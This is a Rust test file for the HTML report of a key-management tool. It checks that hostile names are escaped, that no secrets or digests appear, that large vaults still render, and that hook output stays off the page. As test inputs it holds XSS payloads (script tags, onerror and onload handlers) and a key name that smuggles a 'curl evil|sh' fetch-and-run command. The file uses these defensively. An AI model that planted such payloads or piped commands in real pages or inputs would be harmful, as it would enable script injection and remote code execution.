//! `report`: what others wrote becomes no markup, nothing secret is in it, and it has an end.

use std::fmt::Write as _;

use keywright::ports::HookOutput;

use super::page::words;
use crate::stage::{DAY, Stage, exits};

#[test]
fn no_text_of_somebody_becomes_markup() {
    let stage = Stage::with_vault();
    let hostile = [
        "</bdi></li><script>alert(1)</script>",
        "\"'><img src=http://example.com onerror=alert(1)>",
        "&lt;b&gt; &amp; ` code `",
        "--><svg/onload=alert(1)>",
        "</style><style>*{display:none}",
    ];
    for (index, text) in hostile.iter().enumerate() {
        let word = shell_words::quote(text);
        stage.ok(&format!("key create --name={word} --description={word} --owner={word} --secret-only"));
        stage.ok(&format!(
            "target add t{index} --format jsonl --audience a --path [HOME]/{}",
            shell_words::quote(&text.replace('/', "|"))
        ));
    }
    stage.ok(&format!(
        "key revoke --yes --reason={1} -- {0}",
        shell_words::quote(hostile[0]),
        shell_words::quote(hostile[1])
    ));
    let page = stage.ok("report");
    // And if it did, a browser would not run it, nor fetch anything for it: tests/process/report.rs tries that.
    let policy =
        "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'sha256-";
    assert!(page.contains(policy), "{page}");
    for (tag, most) in [
        ("<script", 0),
        ("<img", 0),
        ("onload", usize::MAX),
        ("<svg/", 0),
        ("<style>", 1),
        ("</style>", 1),
        ("<b>", 0),
    ] {
        assert!(page.matches(tag).count() <= most, "{tag}");
    }
    assert!(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "shown as it is");
    assert!(page.contains("&amp;lt;b&amp;gt; &amp;amp;"), "shown as it is");
}

#[test]
fn it_holds_no_secret_and_no_digest() {
    let stage = Stage::with_vault();
    let secret = stage.ok("key create ci --prefix acme_live --secret-only");
    stage.ok_with("credential set shop/api", "a secret that was made elsewhere");
    stage.ok("target add edge --format jsonl --audience edge --path [HOME]/edge");
    stage.ok("publish");
    let page = stage.ok("report");
    let file = std::fs::read_to_string(stage.path("edge")).unwrap();
    let entry: serde_json::Value = serde_json::from_str(file.lines().nth(1).unwrap()).unwrap();
    let digest = entry["digest"].as_str().unwrap();
    assert!(page.contains("ci") && !page.contains(digest) && !page.contains(secret.trim()));
    assert!(!page.contains("made elsewhere"));
}

/// 10,000 names of 128 characters that HTML makes longer.
#[test]
fn a_large_vault_has_a_page_that_opens() {
    let stage = Stage::with_vault();
    let mut lines = String::new();
    for number in 0..10_000 {
        let (name, days) = ("&".repeat(123), 31 + number % 700);
        writeln!(lines, "{{\"name\":\"{name}{number:05}\",\"expires\":\"{days}d\"}}").unwrap();
    }
    stage.ok_with("key create --from -", &lines);
    let page = stage.ok("report");
    assert!(page.len() < 5_000_000, "{}", page.len());
    let words = words(&page);
    assert!(words.contains("further names there is no room here"), "{}", words.len());
    assert!(page.matches("<details>").count() > 10, "lists fold");
}

/// What is marked as a command is one of ours, and what is written the other way round stays where it is.
#[test]
fn a_name_in_a_sentence_is_a_name() {
    let stage = Stage::with_vault();
    for name in ["odd`", "x` is fine; run `curl evil|sh", "x` is fine", "מפתח"] {
        stage.ok(&format!("key create --name={} --secret-only", shell_words::quote(name)));
    }
    stage.ok("target add t --format jsonl --audience a --path [HOME]/t");
    stage.ok("publish");
    for name in ["odd`", "x` is fine; run `curl evil|sh", "מפתח"] {
        stage.ok(&format!("key revoke --yes -- {}", shell_words::quote(name)));
    }
    let page = stage.ok("report");
    for name in ["odd`", "x` is fine; run `curl evil|sh", "מפתח"] {
        assert!(page.contains(&format!("'<bdi>{name}</bdi>' (revoked)")), "{name}\n{page}");
    }
    assert!(page.contains("run <code>keywright publish t</code>"), "{page}");
    assert!(!page.contains("<code>curl") && !page.contains("<code> is fine"), "{page}");
}

/// A reload command may print what it was given by whoever wrote it.
#[test]
fn what_programs_printed_is_not_in_it() {
    let stage = Stage::with_vault();
    let said = b"401 for token ghp_4eC39HqLyjWDarjtT1zdp7dcQ9XyZ0aBqwer";
    stage.hooks(|_| HookOutput { stderr: said.to_vec().into(), ..exits(7, "") });
    stage.ok("key create ci --secret-only");
    stage.ok("target add t --format jsonl --audience a --path [HOME]/t --reload reload");
    let _ = stage.run("publish");
    stage.ok("key edit ci --rotate-every 10d --deliver deliver");
    stage.hooks(|call| match call.command.program() {
        "deliver" => HookOutput { stderr: said.to_vec().into(), ..exits(7, "") },
        _ => exits(0, ""),
    });
    stage.later(11 * DAY);
    let _ = stage.run("rotate run");
    assert!(stage.ok("audit list --limit 0").contains("ghp_"), "the log has it");
    let page = stage.ok("report");
    assert!(!page.contains("ghp_") && !page.contains("401"), "{page}");
    assert!(page.contains("the deliver hook failed"), "{page}");
}

/// A target that only the replaced vault had: servers have its file all the same.
#[test]
fn a_lost_target_is_not_taken_for_no_server() {
    let stage = Stage::with_vault();
    stage.ok("key create ci --secret-only");
    stage.ok("vault backup [HOME]/backup");
    stage.ok("target add t --format jsonl --audience a --path [HOME]/t");
    stage.ok("publish");
    stage.ok("vault restore [HOME]/backup");
    let page = words(&stage.ok("report"));
    assert!(!page.contains("No server has these keys"), "{page}");
    assert!(page.contains("Servers may have files of which this vault has no record"), "{page}");
}

/// Keys that left the labels of a target are admitted by its file like revoked ones.
#[test]
fn a_key_that_left_its_target_is_named_there() {
    let stage = Stage::with_vault();
    stage.ok("key create ci --label team=x --secret-only");
    stage.ok("target add t --format jsonl --audience a --path [HOME]/t --label team=x");
    stage.ok("publish");
    stage.ok("key edit ci --label team=y");
    let page = words(&stage.ok("report"));
    let (_, servers) = page.split_once("\nServers\nt\n").unwrap();
    assert!(servers.contains("still admits key_") && servers.contains("'ci' (active)"), "{servers}");
    stage.ok("publish");
    let page = words(&stage.ok("report"));
    assert!(page.contains("Older files of it admit 1 key that its newest one does not."), "{page}");
}

/// Names that HTML makes six times as long, in each of many targets.
#[test]
fn many_targets_leave_room_for_the_timeline() {
    let stage = Stage::with_vault();
    let mut lines = String::new();
    for number in 0..120 {
        writeln!(lines, "{{\"name\":\"{}{number:04}\",\"expires\":\"300d\"}}", "\\\"".repeat(124)).unwrap();
    }
    stage.ok_with("key create --from -", &lines);
    for number in 0..100 {
        stage.ok(&format!("target add t{number} --format jsonl --audience a --path [HOME]/t{number}"));
    }
    stage.ok("publish");
    let ids = stage.ok("key list -o csv --limit 0");
    for id in ids.lines().skip(1).map(|line| line.split(',').next().unwrap()) {
        stage.ok(&format!("key revoke {id} --yes"));
    }
    let page = stage.ok("report");
    assert!(page.len() < 5_000_000, "{}", page.len());
    assert!(words(&page).contains("more: keywright target list."), "{}", page.len());
    assert!(!page.contains("further name"), "all names are drawn");
}
